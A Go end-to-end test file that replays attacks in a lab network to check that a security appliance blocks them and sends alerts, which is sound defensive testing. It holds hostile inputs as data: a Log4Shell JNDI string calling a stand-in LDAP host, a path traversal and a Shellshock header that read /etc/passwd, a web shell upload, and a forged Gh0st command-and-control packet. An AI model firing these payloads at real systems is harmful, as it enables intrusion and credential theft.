package demo

import (
	"context"
	"fmt"
	"os"
	"strings"
	"syscall"
	"time"

	"otasuke/e2e/lab"
)

// steps plays everything in order. A step that goes wrong does not stop the others.
func (d *demo) steps(ctx context.Context) error {
	steps := []func(context.Context){d.attacks, d.beacons, d.phishing, d.viruses, d.harmless, d.killed, d.centreDown, d.wrong, d.applications, d.spread, d.devices, d.held, d.current, d.policy, d.discovered, d.foundFile, d.selftest, d.mailVirus}
	if d.Once { // nobody will look at the portal, so it may fill up
		steps = append(steps, d.measure)
	}
	for _, s := range steps {
		if ctx.Err() != nil {
			return ctx.Err()
		}
		s(ctx)
	}
	return nil
}

// count of what was tried and what was stopped.
type count struct {
	tried, stopped int
	passed         []string
}

func (c *count) add(name string, stopped bool) {
	c.tried++
	if stopped {
		c.stopped++
	} else {
		c.passed = append(c.passed, name)
	}
}

func (c *count) seen() string {
	if c.tried == c.stopped {
		return "blocked"
	}
	return fmt.Sprintf("%d of %d blocked, passed: %s", c.stopped, c.tried, strings.Join(c.passed, ", "))
}

// attacks is step 1: from outside against the inside web server.
func (d *demo) attacks(ctx context.Context) {
	defer d.recording("1")()
	start, before := time.Now(), d.office.Reached.Get("http")
	var c count
	from := []string{"--interface", lab.Attacker}
	site := "http://" + lab.Web
	for _, a := range []struct {
		name string
		args []string
	}{
		{"Log4Shell", []string{"-A", "${jndi:ldap://198.51.100.66:1389/a}", site + "/"}},
		{"path traversal", []string{"--path-as-is", site + "/../../../../etc/passwd"}},
		{"Shellshock", []string{"-A", `() { :;}; /bin/bash -c "cat /etc/passwd"`, site + "/cgi-bin/status"}},
		{"web shell upload", []string{"-F", "file=@" + d.path("shell.php") + ";type=application/x-php", site + "/upload.php"}},
	} {
		code, _ := d.curl(ctx, d.lab.Internet, append(append([]string{}, from...), a.args...)...)
		c.add(a.name, code != 0)
	}
	smb := []byte("\x00\x00\x00\x54\xffSMB\x72\x00\x00\x00\x00\x18\x01\x28" + strings.Repeat("\x00", 24) + "\x00\x31\x00\x02LANMAN1.0\x00\x02LM1.2X002\x00\x02NT LM 0.12\x00")
	rdp := []byte("\x03\x00\x00\x2b\x26\xe0\x00\x00\x00\x00\x00Cookie: mstshash=hello\r\n\x01\x00\x08\x00\x03\x00\x00\x00")
	d.send(ctx, d.lab.Internet, lab.Attacker, lab.Web+":445", smb)
	c.add("SMB probe", d.office.Reached.Get("445") == 0)
	d.send(ctx, d.lab.Internet, lab.Attacker, lab.Web+":3389", rdp)
	c.add("RDP probe", d.office.Reached.Get("3389") == 0)
	if got := d.office.Reached.Get("http") - before; got > 0 {
		c.passed = append(c.passed, fmt.Sprintf("%d requests reached the server", got))
		c.stopped = min(c.stopped, c.tried-got)
	}
	s := Step{ID: "1", Expected: "blocked", Seen: c.seen(), MS: time.Since(start).Milliseconds(), Note: fmt.Sprintf("%d kinds of attack on the web server", c.tried)}
	alerts := d.await(ctx, func(a Alert) bool { return a.Stars == 1 && a.Device == lab.Web }, c.tried)
	s.OK = s.Seen == "blocked" && len(alerts) == 1 && alerts[0].Count >= c.tried
	if len(alerts) > 0 {
		s.Alert, s.Stars = alerts[0].ID, alerts[0].Stars
		s.Mail = d.mailed(alerts[0]) > 0
		s.OK = s.OK && !s.Mail
	}
	d.say(s, "Attacks from outside on the company's web server")
}

// gh0st is the first packet of a well-known remote control tool: its name, the
// packet's length and the unpacked length.
func gh0st() []byte {
	body := strings.Repeat("\x78\x9c\x4b\x63\x60\x60\x98\x03", 8)
	n := byte(13 + len(body))
	return []byte("Gh0st" + string([]byte{n, 0, 0, 0, 0x80, 0, 0, 0}) + body)
}

// beacons is step 2: a controlled PC calls its master.
func (d *demo) beacons(ctx context.Context) {
	defer d.recording("2")()
	d.infected(ctx, "2", d.lab.PC2, lab.PC2, "A PC calls its attacker, over the web and over a protocol of its own")
}

func (d *demo) infected(ctx context.Context, id string, pc *lab.Namespace, addr, title string) {
	start, before := time.Now(), len(d.sink.Mails())
	var c count
	d.curl(ctx, pc, "-A", "Mozilla/4.0 (compatible; MSIE 6.1; Windows NT)", "http://"+lab.C2+"/news?id=7")
	c.add("web", d.internet.Reached.Get("c2") == 0)
	d.send(ctx, pc, "", lab.C2+":8443", gh0st())
	c.add("own protocol", d.internet.Reached.Get("c2-raw") == 0)
	s := Step{ID: id, Expected: "blocked", Seen: c.seen(), MS: time.Since(start).Milliseconds()}
	d.report(ctx, &s, start, before, 3, func(a Alert) bool { return a.Stars == 3 && a.Device == addr }, c.tried)
	d.say(s, title)
}

// report waits for the one alert and the one mail of a step.
func (d *demo) report(ctx context.Context, s *Step, start time.Time, before, stars int, which func(Alert) bool, events int) {
	alerts := d.await(ctx, which, events)
	s.OK = s.Seen == s.Expected && len(alerts) == 1
	if len(alerts) == 0 {
		return
	}
	a := alerts[0]
	s.Alert, s.Stars = a.ID, a.Stars
	s.Mail = eventually(ctx, 15*time.Second, func() bool { return d.mailed(a) > 0 })
	s.OK = s.OK && s.Mail && a.Stars == stars && d.mailed(a) == 1
	for _, m := range d.sink.Mails()[before:] {
		if !strings.Contains(m.Text, a.ID) {
			continue // of another step, later than expected
		}
		if stars == 3 {
			d.latency.add(m.Received.Sub(start))
		}
		s.Note = "mail: " + m.Subject
		break
	}
}

// phishing is step 3.
func (d *demo) phishing(ctx context.Context) {
	defer d.recording("3")()
	d.phish(ctx, "3", d.lab.PC1, lab.PC1, "An employee follows a link to a false bank")
}

func (d *demo) phish(ctx context.Context, id string, pc *lab.Namespace, addr, title string) {
	start, before := time.Now(), len(d.sink.Mails())
	var c count
	out, _, _ := pc.Run(ctx, "dig", "+time=2", "+tries=1", "@"+lab.DNSHost, lab.PhishName)
	c.add("DNS", strings.Contains(string(out), "NXDOMAIN") && d.internet.Reached.Get("phish-dns") == 0)
	resolve := []string{"--resolve", lab.PhishName + ":443:" + lab.Phish, "--resolve", lab.PhishName + ":80:" + lab.Phish}
	code, _ := d.curl(ctx, pc, append(resolve, "https://"+lab.PhishName+"/")...)
	c.add("TLS", code != 0)
	quicCtx, cancel := context.WithTimeout(ctx, 2*time.Second)
	c.add("QUIC", d.internet.DialQUIC(quicCtx, pc) != nil && d.internet.Reached.Get("phish-quic") == 0)
	cancel()
	_, page := d.curl(ctx, pc, append(resolve, "http://"+lab.PhishName+"/login")...)
	c.add("HTTP", strings.Contains(page, "このページは開けませんでした"))
	if d.internet.Reached.Get("phish") > 0 {
		c.passed, c.stopped = append(c.passed, "the false bank was reached"), c.tried-1
	}
	s := Step{ID: id, Expected: "blocked", Seen: c.seen(), MS: time.Since(start).Milliseconds()}
	d.report(ctx, &s, start, before, 2, func(a Alert) bool { return a.Stars == 2 && a.Device == addr }, c.tried)
	d.say(s, title)
}

// viruses is step 4.
func (d *demo) viruses(ctx context.Context) {
	defer d.recording("4")()
	start, before := time.Now(), len(d.sink.Mails())
	var c count
	for _, name := range []string{"eicar.com", "invoice.zip"} {
		to := d.path("download")
		d.curl(ctx, d.lab.PC3, "-o", to, "--resolve", lab.MalwareName+":80:"+lab.Malware, "http://"+lab.MalwareName+"/"+name)
		got, _ := os.ReadFile(to)
		_ = os.Remove(to)
		c.add(name, !strings.Contains(string(got), "EICAR") && !strings.HasPrefix(string(got), "PK"))
	}
	s := Step{ID: "4", Expected: "blocked", Seen: c.seen(), MS: time.Since(start).Milliseconds()}
	d.report(ctx, &s, start, before, 2, func(a Alert) bool { return a.Stars == 2 && a.Device == lab.PC3 }, c.tried)
	d.say(s, "A PC downloads a virus, once as it is, once in an archive")
}

// killed is step 6: the engine dies in the middle of a download.
func (d *demo) killed(ctx context.Context) {
	start := time.Now()
	pid := d.enginePID()
	got := make(chan error, 1)
	go func() { got <- d.same(ctx, "http://"+lab.Good+"/slow", d.Big) }()
	_ = eventually(ctx, 400*time.Millisecond, func() bool { return false }) // into the download
	var died time.Time
	if pid > 0 && syscall.Kill(pid, syscall.SIGKILL) == nil {
		died = time.Now()
	}
	back := eventually(ctx, 20*time.Second, func() bool { p := d.enginePID(); return p > 0 && p != pid })
	restarted := time.Since(died)
	err := <-got
	said := eventually(ctx, 15*time.Second, func() bool { return d.healthNotes("engine-died") > 0 && d.healthNotes("engine-restarted") > 0 })
	s := Step{ID: "6", Expected: "download finished, box said so", MS: time.Since(start).Milliseconds()}
	switch {
	case died.IsZero():
		s.Seen = "the engine could not be killed"
	case err != nil:
		s.Seen = "download: " + err.Error()
	case !back:
		s.Seen = "the engine did not come back"
	case !said:
		s.Seen = "the box did not say so"
	default:
		s.Seen, s.OK = s.Expected, true
	}
	s.Note = fmt.Sprintf("a new engine process after %d ms", restarted.Milliseconds())
	d.say(s, "The engine process is killed during a download")
}

// centreDown is step 7: alerts happen while nobody listens, and arrive once.
func (d *demo) centreDown(ctx context.Context) {
	start := time.Now()
	// Two other PCs, so that new alerts are due.
	d.centre.stop()
	before := len(d.sink.Mails())
	var c count
	d.curl(ctx, d.lab.PC3, "-A", "Mozilla/4.0 (compatible; MSIE 6.1; Windows NT)", "http://"+lab.C2+"/news?id=8")
	d.send(ctx, d.lab.PC3, "", lab.C2+":8443", gh0st())
	c.add("beacon", d.internet.Reached.Get("c2")+d.internet.Reached.Get("c2-raw") == 0)
	out, _, _ := d.lab.PC2.Run(ctx, "dig", "+time=2", "+tries=1", "@"+lab.DNSHost, lab.PhishName)
	c.add("phishing", strings.Contains(string(out), "NXDOMAIN"))
	s := Step{ID: "7", Expected: "blocked, every alert once", Seen: c.seen()}
	if err := d.startCentre(ctx); err != nil {
		s.Seen = err.Error()
		d.say(s, "The centre is away while a PC is controlled and a false bank is opened")
		return
	}
	high := d.await(ctx, func(a Alert) bool { return a.Stars == 3 && a.Device == lab.PC3 }, 2)
	medium := d.await(ctx, func(a Alert) bool { return a.Stars == 2 && a.Device == lab.PC2 }, 1)
	if len(high) == 1 && len(medium) == 1 && high[0].Count == 2 && medium[0].Count == 1 {
		s.Alert, s.Stars = high[0].ID, 3
		s.Mail = eventually(ctx, 20*time.Second, func() bool { return d.mailed(high[0]) == 1 && d.mailed(medium[0]) == 1 })
		s.OK = s.Mail && len(d.sink.Mails()) == before+2 && c.seen() == "blocked"
		s.Seen = c.seen() + ", every alert once"
	} else {
		s.Seen = fmt.Sprintf("%s; alerts: %d ★★★, %d ★★☆", c.seen(), len(high), len(medium))
	}
	s.MS = time.Since(start).Milliseconds()
	d.say(s, "The centre is away while a PC is controlled and a false bank is opened")
}

// measuredPCs is how many further PCs are infected to measure the way to the mail.
const measuredPCs = 20

// measure infects further PCs one after the other and takes the time from the
// packet to the mail server's yes.
func (d *demo) measure(ctx context.Context) {
	mails := make(map[string]time.Time)
	for i := range measuredPCs {
		addr := fmt.Sprintf("192.168.1.%d", 101+i)
		pc, err := d.lab.AddPC(fmt.Sprintf("pc%d", 101+i), addr, byte(0x60+i))
		if err != nil {
			fmt.Fprintln(d.Err, err)
			return
		}
		mails[addr] = time.Now()
		d.curl(ctx, pc, "-A", "Mozilla/4.0 (compatible; MSIE 6.1; Windows NT)", "http://"+lab.C2+"/news?id=9")
	}
	_ = eventually(ctx, 20*time.Second, func() bool {
		seen := 0
		for addr, sent := range mails {
			for _, m := range d.sink.Mails() {
				if strings.Contains(m.Subject, "「"+addr+"」") && m.Received.After(sent) {
					seen++
				}
			}
		}
		return seen >= len(mails)
	})
	for _, m := range d.sink.Mails() {
		for addr, sent := range mails {
			if strings.Contains(m.Subject, "「"+addr+"」") {
				d.latency.add(m.Received.Sub(sent))
			}
		}
	}
	l := d.latency.sum()
	fmt.Fprintf(d.Out, "  From the packet to the mail server's yes, %d ★★★ alerts: half within %d ms, the slowest %d ms\n", l.N, l.P50, l.P99)
}
